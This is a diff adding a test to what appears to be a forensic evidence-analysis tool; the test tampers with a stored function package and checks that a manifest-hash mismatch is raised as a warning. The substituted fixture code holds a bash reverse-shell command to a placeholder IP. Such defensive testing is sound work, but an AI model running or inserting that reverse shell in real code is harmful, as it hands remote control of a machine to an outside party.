@@ -133,3 +133,20 @@ def test_cli_reports_unsupported_sigma_and_bad_yara(builder: CaseBuilder, tmp_pa
     bad = CliRunner().invoke(cli, ["analyze", "--case", str(builder.root), "--yara", str(yara)])
     assert bad.exit_code == 1
     assert "does not compile" in bad.output
+
+
+def test_altered_package_is_a_loud_warning_not_a_silent_finding(builder: CaseBuilder) -> None:
+    from tests.analyze.casebuild import function_config, zip_bytes
+
+    blob = zip_bytes({"app.py": "def handler(e, c):\n    return 1\n"})
+    entry = builder.code(blob, "orders")
+    builder.versions("orders", [function_config("orders", code=blob)])
+    path = builder.root / entry.path
+    path.chmod(0o644)  # evidence is read-only; this test tampers with it on purpose
+    path.write_bytes(
+        zip_bytes({"app.py": "import os\nos.system('bash -i >& /dev/tcp/1.2.3.4/1 0>&1')\n"})
+    )
+    result, _ = analyze_case(Case.open(builder.root), ALL)
+    failed = {w.detector: w.reason for w in result.warnings}
+    assert "does not match its manifest hash" in failed["LIR-CODE-001"]
+    assert not [f for f in result.findings if f.detector.startswith("yara:")]
